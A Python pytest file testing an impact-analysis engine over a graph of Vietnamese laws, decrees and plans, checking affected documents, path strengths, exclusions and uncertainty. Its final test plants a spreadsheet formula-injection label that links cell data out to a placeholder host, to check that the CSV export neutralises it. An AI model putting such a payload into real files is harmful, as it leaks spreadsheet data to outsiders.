"""graph/impact.py: fixture cases on a hand-built graph, and real cases worked out by hand from the seed and facts.

Fixture graph: tests/fixtures/impact.ttl (its header draws it) with the real rules of ontology/impact.ttl.
Real cases: data/seed/tdc-2024-article.ttl and data/facts/facts.ttl; the expected sets below were derived by
reading those files and the rules (not by running the engine): e.g. Điều 3 of 68/2006/QH11 is part of the law
(is-part-of, 0.7); the law is detailed by 127/2007/NĐ-CP and 22/2026/NĐ-CP (details, 1.0), is the legal basis of
107/2016/NĐ-CP, 154/2018/NĐ-CP and 02/2024/TT-BKHCN (0.9) and the subject of orientation 1 and task 1 (concerns,
0.8); those two belong to the 2024 plan (0.3) and task 1 is TĐC's (0.3). Every path starts with the 0.7 step, so
every document, task and orientation is "may be affected" and the plan is "informative".
"""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import pytest
from rdflib import Dataset, Literal, URIRef

from graph.build import check
from graph.dependencies import dependency_graph
from graph.errors import NotFound, QueryError
from graph.impact import impact_of
from graph.impact_amendment import amendment_of, resolve, what_if
from graph.impact_model import ImpactReport
from graph.impact_names import path_text
from graph.load import Sources
from graph.query import select
from graph.store import EmbeddedStore
from graph.timeline import state_on, timeline

ROOT = Path(__file__).resolve().parents[1]
ID = "https://w3id.org/vnqi/id/"
MAY, MUST, INFO = "may-be-affected", "must-review", "informative"
PHAPDIEN = ROOT.parent / "shared" / "data" / "vn-phapdien-qi" / "articles.jsonl"


def found(report: ImpactReport) -> dict[str, tuple[int, str]]:
    """IRI (without the id: prefix) → (distance, role key) of every affected entity."""
    return {a.entity.iri.removeprefix(ID): (a.distance, a.role.rsplit("/", 1)[-1]) for a in report.affected}


def excluded(report: ImpactReport) -> set[str]:
    """IRIs (without the id: prefix) of the entities left out."""
    return {e.iri.removeprefix(ID) for e, _ in report.excluded}


def one(report: ImpactReport, local: str):  # type: ignore[no-untyped-def]
    """The Affected entry of one entity."""
    return next(a for a in report.affected if a.entity.iri == ID + local)


# ------------------------------------------------------------------------------------------------ fixture graph


def fixture_dataset() -> Dataset:
    """The hand-built graph with the real impact rules and legal classes (what a what-if may change)."""
    dataset = Dataset()
    dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/impact")).parse(ROOT / "tests/fixtures/impact.ttl")
    dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/impact")).parse(ROOT / "ontology/impact.ttl")
    dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/legal")).parse(ROOT / "ontology/legal.ttl")
    return dataset


def in_memory(dataset: Dataset) -> EmbeddedStore:
    """An in-memory store holding `dataset`."""
    store = EmbeddedStore(None)
    store.replace(dataset)
    return store


@pytest.fixture(scope="module")
def fixture_store() -> EmbeddedStore:
    """fixture_dataset in memory."""
    return in_memory(fixture_dataset())


def article_1(store: EmbeddedStore, depth: int = 4) -> ImpactReport:
    """What-if: Điều 1 of the test law amended, in force on 2020-01-01."""
    return impact_of(store, what_if(store, "T-LAW", ["dieu-1"], "amended", date(2020, 1, 1)), depth)


def test_fixture_full_result(fixture_store: EmbeddedStore) -> None:
    report = article_1(fixture_store)
    assert found(report) == {
        "doc/t-law": (1, MAY),
        "doc/t-d1": (2, MAY), "doc/t-d2": (2, MAY), "doc/t-z": (2, MAY), "plan/t-plan/nhiem-vu-1": (2, MAY),
        "doc/t-q": (2, MAY), "doc/t-d1/dieu-3": (2, MAY), "doc/t-q/dieu-1": (2, MAY),
        "doc/t-c": (3, MAY), "doc/t-u": (3, MAY), "plan/t-plan": (3, INFO),
        "doc/t-x": (4, MAY),
        "doc/t-k/dieu-1": (1, MAY), "doc/t-k": (2, MAY),  # through the changed article's clause
    }
    assert report.on == date(2020, 1, 1) and not report.pending


def test_what_cites_a_clause_of_a_changed_article_is_affected(fixture_store: EmbeddedStore) -> None:
    """Điều 1 changes, so its clause may too: the article citing the clause is affected at distance 1, by a path
    through the clause ('contains', 0.7, then 'cited by', 0.6); the clause itself is part of the change, not
    reported as affected."""
    report = article_1(fixture_store)
    citing = one(report, "doc/t-k/dieu-1")
    assert [(s.source.removeprefix(ID), s.rule.rsplit("/", 1)[-1], s.target.removeprefix(ID))
            for s in citing.paths[0]] == [("doc/t-law/dieu-1", "contains", "doc/t-law/dieu-1/khoan-1"),
                                          ("doc/t-law/dieu-1/khoan-1", "cites", "doc/t-k/dieu-1")]
    assert citing.strength == 0.6 and len(citing.paths) == 1
    graph = dependency_graph(fixture_store)
    assert path_text(graph, citing.paths[0], "en").split(" → ")[1::2] == ["contains", "cited by"]
    assert ID + "doc/t-law/dieu-1/khoan-1" not in {a.entity.iri for a in report.affected}
    whole = impact_of(fixture_store, what_if(fixture_store, "T-LAW", [], "repealed", date(2020, 1, 1)))
    assert found(whole)["doc/t-k/dieu-1"] == (1, MAY)  # the whole law changes: every part of it with it


def test_diamond_gives_both_shortest_paths(fixture_store: EmbeddedStore) -> None:
    circular = one(article_1(fixture_store), "doc/t-c")
    via = sorted(path[-2].target.removeprefix(ID) for path in circular.paths)
    assert via == ["doc/t-d1", "doc/t-d2"] and all(len(path) == 3 for path in circular.paths)
    assert not circular.uncertain  # one of the two paths is verified


def test_cycle_terminates_and_lists_each_entity_once(fixture_store: EmbeddedStore) -> None:
    report = impact_of(fixture_store, what_if(fixture_store, "T-LAW", ["dieu-1"], "amended", date(2020, 1, 1)), 10)
    iris = [a.entity.iri for a in report.affected]
    assert len(iris) == len(set(iris)) == 14
    assert one(report, "doc/t-x").distance == 4 and one(report, "doc/t-c").distance == 3
    assert ID + "doc/t-law/dieu-1" not in iris  # the changed article is not reported as affected by itself


def test_expired_document_is_excluded_and_not_walked_through(fixture_store: EmbeddedStore) -> None:
    report = article_1(fixture_store)
    assert excluded(report) == {"doc/t-e", "doc/t-g", "doc/t-r", "doc/t-d1/dieu-2", "doc/t-r/dieu-1",
                                "doc/t-g/dieu-1", "doc/t-g/dieu-2", "doc/t-d1/dieu-2/khoan-1"}
    reasons = dict((e.iri.removeprefix(ID), why) for e, why in report.excluded)
    assert reasons["doc/t-e"] == "no longer in force on 2020-01-01 (since 2015-01-01)"
    assert reasons["doc/t-g"] == "not yet in force on 2020-01-01 (from 2028-01-01)"
    assert reasons["doc/t-r"] == f"repealed or replaced by {ID}doc/t-rr from 2018-01-01"
    assert reasons["doc/t-d1/dieu-2"] == f"repealed or replaced by {ID}doc/t-s from 2015-01-01"  # the article itself
    assert reasons["doc/t-r/dieu-1"] == f"part of {ID}doc/t-r: repealed or replaced by {ID}doc/t-rr from 2018-01-01"
    assert reasons["doc/t-g/dieu-1"] == f"part of {ID}doc/t-g: not yet in force on 2020-01-01 (from 2028-01-01)"
    assert reasons["doc/t-d1/dieu-2/khoan-1"] == f"part of {ID}doc/t-d1/dieu-2: repealed or replaced by {ID}doc/t-s " \
                                                "from 2015-01-01"  # the nearest ended ancestor: its article
    assert "doc/t-d1/dieu-3" in found(report)  # "amended, supplemented, partly repealed" at once: still in force
    for never in ("doc/t-f", "doc/t-rg"):
        assert never not in found(report) and never not in excluded(report)


def test_depth_limit(fixture_store: EmbeddedStore) -> None:
    assert set(found(article_1(fixture_store, 1))) == {"doc/t-law", "doc/t-k/dieu-1"}  # 'contains' adds no step
    assert set(found(article_1(fixture_store, 2))) == {"doc/t-law", "doc/t-d1", "doc/t-d2", "doc/t-z",
                                                       "plan/t-plan/nhiem-vu-1", "doc/t-q", "doc/t-d1/dieu-3",
                                                       "doc/t-q/dieu-1", "doc/t-k/dieu-1", "doc/t-k"}
    with pytest.raises(QueryError, match="depth"):
        article_1(fixture_store, 0)
    with pytest.raises(QueryError, match="depth"):
        article_1(fixture_store, 11)


def test_amendment_not_yet_in_force_is_pending(fixture_store: EmbeddedStore) -> None:
    amendment = amendment_of(fixture_store, resolve(fixture_store, "T-M"))
    assert amendment.targets == (ID + "doc/t-law/dieu-2",) and amendment.effective == date(2030, 1, 1)
    before = impact_of(fixture_store, amendment, on=date(2025, 1, 1))
    assert before.pending and before.on == date(2025, 1, 1)
    assert "doc/t-g" in excluded(before)  # judged as of the reference date
    after = impact_of(fixture_store, amendment)
    assert not after.pending and after.on == date(2030, 1, 1)
    assert found(after)["doc/t-g"] == (2, MAY) and excluded(after) == {"doc/t-e", "doc/t-r", "doc/t-d1/dieu-2",
                                                                       "doc/t-r/dieu-1", "doc/t-d1/dieu-2/khoan-1"}
    assert found(after)["doc/t-g/dieu-1"] == found(after)["doc/t-g/dieu-2"] == (2, MAY)  # in force by 2030


def test_role_comes_from_the_strongest_path(fixture_store: EmbeddedStore) -> None:
    report = impact_of(fixture_store, what_if(fixture_store, "T-LAW", [], "replaced", date(2020, 1, 1)), 2)
    z = one(report, "doc/t-z")
    assert (z.distance, z.strength, z.role.rsplit("/", 1)[-1]) == (1, 0.9, MUST)
    rules = [[s.rule.rsplit("/", 1)[-1] for s in path] for path in z.paths]
    assert rules == [["cites"], ["details", "has-legal-basis"]]  # the shortest path, then the strongest one
    assert found(report)["doc/t-d1"] == (1, MUST) and found(report)["plan/t-plan"] == (2, INFO)


def test_uncertain_when_every_path_has_an_unverified_link(fixture_store: EmbeddedStore) -> None:
    report = article_1(fixture_store)
    assert one(report, "doc/t-d2").uncertain and one(report, "doc/t-u").uncertain
    assert not one(report, "doc/t-d1").uncertain and not one(report, "doc/t-c").uncertain
    assert [s.status for s in one(report, "doc/t-u").paths[0]] == [None, "unverified", None]


def test_a_document_an_unverified_act_ends_is_walked_through_as_uncertain(fixture_store: EmbeddedStore) -> None:
    """t-qq (unverified) replaces t-q from 2019: its page says "no longer in force, from unverified information";
    impact analysis neither drops t-q nor reports it as certain (it listed it as certain before)."""
    q = one(article_1(fixture_store), "doc/t-q")
    assert q.uncertain and [(d.act, d.on, d.status) for d in q.doubts] == [(ID + "doc/t-qq", date(2019, 1, 1),
                                                                          "unverified")]
    assert all(not any(step.status for step in path) for path in q.paths)  # its link itself is verified
    article = one(article_1(fixture_store), "doc/t-q/dieu-1")  # an article of t-q is as doubtful as t-q
    assert article.uncertain and [d.act for d in article.doubts] == [ID + "doc/t-qq"]
    before = impact_of(fixture_store, what_if(fixture_store, "T-LAW", ["dieu-1"], "amended", date(2018, 6, 1)))
    assert not one(before, "doc/t-q").doubts and not one(before, "doc/t-q").uncertain  # not yet replaced then


def test_every_finding_of_an_unverified_amendment_is_uncertain(fixture_store: EmbeddedStore) -> None:
    amendment = amendment_of(fixture_store, resolve(fixture_store, "T-P"))
    assert (amendment.targets, amendment.status) == ((ID + "doc/t-law/dieu-1",), "unverified")
    report = impact_of(fixture_store, amendment)
    d1 = one(report, "doc/t-d1")
    assert not d1.uncertain and report.uncertain(d1)  # certain path, uncertain change
    assert amendment_of(fixture_store, resolve(fixture_store, "T-M")).status is None


def test_provision_not_in_the_graph_is_linked_to_its_document(fixture_store: EmbeddedStore) -> None:
    report = impact_of(fixture_store, amendment_of(fixture_store, resolve(fixture_store, "T-N")), depth=1)
    assert [e.iri for e in report.changed] == [ID + "doc/t-law/dieu-9/khoan-2"] and found(report) == {
        "doc/t-law": (1, MAY)}
    graph = dependency_graph(fixture_store)
    assert path_text(graph, report.affected[0].paths[0]) == "dieu-9/khoan-2 Luật T-LAW → thuộc → Luật thử nghiệm"
    assert ID + "doc/t-law/dieu-9/khoan-2" not in graph.graph  # the shared, cached graph is left unchanged


def test_unknown_inputs_are_refused(fixture_store: EmbeddedStore) -> None:
    with pytest.raises(NotFound):
        resolve(fixture_store, "T-NOPE")
    with pytest.raises(NotFound, match="dieu-9"):
        what_if(fixture_store, "T-LAW", ["dieu-9"])
    with pytest.raises(QueryError, match="change"):
        what_if(fixture_store, "T-LAW", ["dieu-1"], "rewritten")
    with pytest.raises(QueryError, match="nothing"):
        amendment_of(fixture_store, resolve(fixture_store, "T-LAW"))


# ------------------------------------------------------------------------------------------------ real cases

LAW_68_DEPENDENTS = {
    "doc/68-2006-qh11": (1, MAY),
    "doc/127-2007-nd-cp": (2, MAY), "doc/107-2016-nd-cp": (2, MAY), "doc/154-2018-nd-cp": (2, MAY),
    "doc/02-2024-tt-bkhcn": (2, MAY),
    "plan/tdc-2024/dinh-huong-1": (2, MAY), "plan/tdc-2024/nhiem-vu-1": (2, MAY),
    "plan/tdc-2024": (3, INFO),
}
LAW_68 = "Điều 3 Luật 68/2006/QH11 → thuộc → Luật Tiêu chuẩn và Quy chuẩn kỹ thuật"


def test_70_2025_affects_task_1_and_orientation_1(store: EmbeddedStore) -> None:
    report = impact_of(store, amendment_of(store, resolve(store, "70/2025/QH15")))
    assert [e.iri for e in report.changed] == [ID + "doc/68-2006-qh11/dieu-3"]
    assert report.on == date(2026, 1, 1) and not report.pending
    assert found(report) == LAW_68_DEPENDENTS
    assert excluded(report) == {"doc/22-2026-nd-cp", "org/tdc"}  # not yet in force; dissolved 2025-03-01
    seed = {k: v for k, v in found(report).items() if k.startswith("plan/tdc-2024/")}
    assert seed == {"plan/tdc-2024/nhiem-vu-1": (2, MAY), "plan/tdc-2024/dinh-huong-1": (2, MAY)}
    graph = dependency_graph(store)
    assert [path_text(graph, p) for p in one(report, "plan/tdc-2024/nhiem-vu-1").paths] == [
        f"{LAW_68} → là nội dung của → Hoàn thiện Luật sửa đổi, bổ sung một số điều của Luật Tiêu chuẩn và Quy chuẩn "
        "kỹ thuật"]
    plan_paths = {path_text(graph, p, "en").rsplit(" → ", 2)[-2] for p in one(report, "plan/tdc-2024").paths}
    assert plan_paths == {"is an orientation of", "is a task of"}


def test_78_2025_affects_task_2_orientation_1_and_presentation_2(store: EmbeddedStore) -> None:
    report = impact_of(store, amendment_of(store, resolve(store, "78/2025/QH15")))
    articles = ["1", "2", "3", "4", "5", "6", "6a", "6b", "6c", "6d", "6dd"]
    assert [e.iri for e in report.changed] == sorted(f"{ID}doc/05-2007-qh12/dieu-{n}" for n in articles)
    assert report.amendment.change == "amended+supplemented" and report.on == date(2026, 1, 1)
    assert found(report) == {
        "doc/05-2007-qh12": (1, MAY),
        "doc/132-2008-nd-cp": (2, MAY), "doc/107-2016-nd-cp": (2, MAY), "doc/154-2018-nd-cp": (2, MAY),
        "doc/02-2024-tt-bkhcn": (2, MAY),
        "plan/tdc-2024/dinh-huong-1": (2, MAY), "plan/tdc-2024/nhiem-vu-2": (2, MAY),
        "event/tdc-hoi-nghi-2023/tham-luan-2": (2, MAY),
        "plan/tdc-2024": (3, INFO),
    }
    assert excluded(report) == {"doc/37-2026-nd-cp", "org/tdc"}
    assert len(one(report, "doc/05-2007-qh12").paths) == 3  # 11 changed articles, the first three paths shown


def test_what_if_on_article_3_of_68_2006(store: EmbeddedStore) -> None:
    report = impact_of(store, what_if(store, "68/2006/QH11", ["dieu-3"], "amended", date(2026, 1, 1)))
    assert found(report) == LAW_68_DEPENDENTS and report.amendment.act is None
    graph = dependency_graph(store)
    decrees = {a.entity.identifier: [path_text(graph, p) for p in a.paths]
               for a in report.affected if a.entity.kind == "Decree"}
    assert decrees == {
        "127/2007/NĐ-CP": [f"{LAW_68} → được quy định chi tiết bởi → Nghị định 127/2007/NĐ-CP"],
        "107/2016/NĐ-CP": [f"{LAW_68} → là căn cứ ban hành của → Nghị định 107/2016/NĐ-CP"],
        "154/2018/NĐ-CP": [f"{LAW_68} → là căn cứ ban hành của → Nghị định 154/2018/NĐ-CP"],
    }


def test_22_2026_is_left_out_before_it_takes_effect(store: EmbeddedStore) -> None:
    on_new_year = impact_of(store, what_if(store, "68/2006/QH11", ["dieu-3"], "amended", date(2026, 1, 1)))
    assert "doc/22-2026-nd-cp" in excluded(on_new_year)
    later = impact_of(store, what_if(store, "68/2006/QH11", ["dieu-3"], "amended", date(2026, 1, 17)))
    decree = one(later, "doc/22-2026-nd-cp")
    assert (decree.distance, decree.role.rsplit("/", 1)[-1], decree.uncertain) == (2, MAY, True)
    assert path_text(dependency_graph(store), decree.paths[0]) == \
        f"{LAW_68} → được quy định chi tiết bởi (chưa kiểm chứng) → Nghị định 22/2026/NĐ-CP"
    by_act = impact_of(store, amendment_of(store, resolve(store, "70/2025/QH15")), on=date(2026, 2, 1))
    assert "doc/22-2026-nd-cp" in found(by_act) and not by_act.pending
    early = impact_of(store, amendment_of(store, resolve(store, "70/2025/QH15")), on=date(2025, 6, 1))
    assert early.pending and early.on == date(2025, 6, 1)


# ------------------------------------------------------------------------------------------------ Pháp điển


PHAPDIEN_ACT, PHAPDIEN_ARTICLE = ID + "doc/02-2017-tt-bkhcn", ID + "doc/28-2012-tt-bkhcn/dieu-16"


def has_phapdien_effect(store: EmbeddedStore) -> bool:
    """True when the store holds the Pháp điển note on Điều 16 of 28/2012/TT-BKHCN as an amendment effect."""
    rows = select(store, "amendment-effects", act=URIRef(PHAPDIEN_ACT)).dicts()
    return any(str(r["target"]) == PHAPDIEN_ARTICLE for r in rows)


@pytest.fixture(scope="module")
def phapdien_store(sources: Sources) -> EmbeddedStore:
    """The real data with the Bộ pháp điển import (issue 4), built and validated like `vnqi build` does it."""
    from graph.importers.registry import NAMES

    if "vn-phapdien-qi" not in NAMES or not PHAPDIEN.is_file():
        pytest.skip("the Pháp điển importer (issue 4) or its source data is not available")
    dataset, report = check(sources, importers=("vn-phapdien-qi",))
    assert report.conforms
    store = EmbeddedStore(None)
    store.replace(dataset)
    return store


def expected_phapdien_targets() -> set[str]:
    """The articles the Pháp điển notes say 02/2017/TT-BKHCN changed (from articles.jsonl, when present)."""
    if not PHAPDIEN.is_file():
        return {f"doc/28-2012-tt-bkhcn/dieu-{n}" for n in (3, 12, 13, 14, 16, 17)}
    targets = set()
    for line in PHAPDIEN.read_text(encoding="utf-8").splitlines():
        article = json.loads(line)
        if any(c["by_doc_number"] == "02/2017/TT-BKHCN" for c in article["changes"]):
            number = article["source"]["part"].removeprefix("Điều ").strip()
            targets.add(f"doc/{article['source']['doc_number'].lower().replace('/', '-')}/dieu-{number}")
    return targets


def test_phapdien_expected_answer_is_derived_from_the_notes() -> None:
    # articles.jsonl, article 19.8.TT.4.16: "(Điều 16 Thông tư số 28/2012/TT-BKHCN, …, có nội dung được sửa đổi
    # bởi Điều 1 Thông tư số 02/2017/TT-BKHCN có hiệu lực thi hành kể từ ngày 15/05/2017)"
    assert expected_phapdien_targets() == {f"doc/28-2012-tt-bkhcn/dieu-{n}" for n in (3, 12, 13, 14, 16, 17)}


def test_circular_article_amended_per_phapdien_note(phapdien_store: EmbeddedStore) -> None:
    store = phapdien_store
    if not has_phapdien_effect(store):
        pytest.skip("no amendment effect of 02/2017/TT-BKHCN on Điều 16 of 28/2012/TT-BKHCN in the imported graph")
    amendment = amendment_of(store, resolve(store, "02/2017/TT-BKHCN"))
    assert {t.removeprefix(ID) for t in amendment.targets} == expected_phapdien_targets()
    assert amendment.effective == date(2017, 5, 15)
    doc = ID + "doc/28-2012-tt-bkhcn"
    article = [c for c in timeline(store, doc) if c.target == doc + "/dieu-16"]
    assert [(c.act.removeprefix(ID), c.effect, c.on) for c in article] == [
        ("doc/02-2017-tt-bkhcn", "amended", date(2017, 5, 15))]
    states = {s.iri: s.state for s in state_on(store, doc, date(2017, 5, 14))}
    assert states[doc + "/dieu-16"] == "in-force"
    assert {s.iri: s.state for s in state_on(store, doc, date(2017, 5, 15))}[doc + "/dieu-16"] == "amended"
    report = impact_of(store, what_if(store, "28/2012/TT-BKHCN", ["dieu-16"], "amended", date(2017, 5, 15)))
    circular = one(report, "doc/28-2012-tt-bkhcn")
    assert (circular.distance, circular.role.rsplit("/", 1)[-1]) == (1, MAY)
    assert path_text(dependency_graph(store), circular.paths[0]) == \
        "Điều 16 Thông tư 28/2012/TT-BKHCN → thuộc → Thông tư 28/2012/TT-BKHCN"


def test_csv_cells_that_look_like_formulas_are_written_as_text() -> None:
    """A label starting with '=' (or +, -, @) opens in a spreadsheet as text, with a leading apostrophe; the JSON
    keeps it as it is."""
    import csv
    import io

    from api.impact_view import as_json, csv_text

    dataset = fixture_dataset()
    hostile = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
    dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/hostile")).add(
        (URIRef(ID + "doc/t-d1"), URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(hostile, lang="en")))
    store = in_memory(dataset)
    report = article_1(store)
    graph = dependency_graph(store)
    rows = list(csv.reader(io.StringIO(csv_text(graph, report, "en"))))
    row = next(r for r in rows if r[0] == ID + "doc/t-d1")
    assert row[3] == "'" + hostile and not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    labels = [e["label"] for g in as_json(graph, report, "en")["groups"] for e in g["entities"]]
    assert hostile in labels
